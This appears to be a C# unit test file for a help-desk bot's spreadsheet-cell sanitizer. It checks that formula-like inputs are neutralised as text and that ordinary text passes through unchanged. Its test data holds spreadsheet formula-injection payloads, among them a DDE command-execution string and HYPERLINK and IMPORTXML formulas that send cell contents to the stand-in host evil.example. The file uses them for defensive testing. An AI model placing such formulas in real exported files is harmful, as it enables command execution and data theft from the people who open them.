using HelpDesk.Bot.Lookup;

namespace HelpDesk.Tests.Lookup;

/// <summary>What people have put into cells to make a spreadsheet act.</summary>
public sealed class SheetCellTests
{
    public static TheoryData<string> Formulas =>
    [
        "=1+1", "=cmd|' /C calc'!A0", "+1+1", "+85291234567", "-2+3", "-", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "\n=1+1", "  =1+1", "\u00a0=1+1",
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"点这里\")", "=IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")", "＝1+1", "＋1", "－1", "＠SUM", "\0=1+1", "\u001b=1",
    ];

    [Theory]
    [MemberData(nameof(Formulas))]
    public void Given_the_beginning_of_a_formula_when_written_then_it_is_text(string typed)
    {
        var cell = SheetCell.Of(typed);

        Assert.StartsWith("'", cell, StringComparison.Ordinal);
        Assert.DoesNotContain(cell, each => char.IsControl(each) && each != '\n');
    }

    [Theory]
    [InlineData("厨房漏水", "厨房漏水")]
    [InlineData("a=b", "a=b")]
    [InlineData("一行\r\n二行", "一行\n二行")]
    [InlineData("tab\tinside", "tab inside")]
    [InlineData("********4567", "********4567")]
    [InlineData("", "")]
    [InlineData(null, "")]
    public void Given_ordinary_text_when_written_then_it_stays(string? typed, string expected) => Assert.Equal(expected, SheetCell.Of(typed));
}
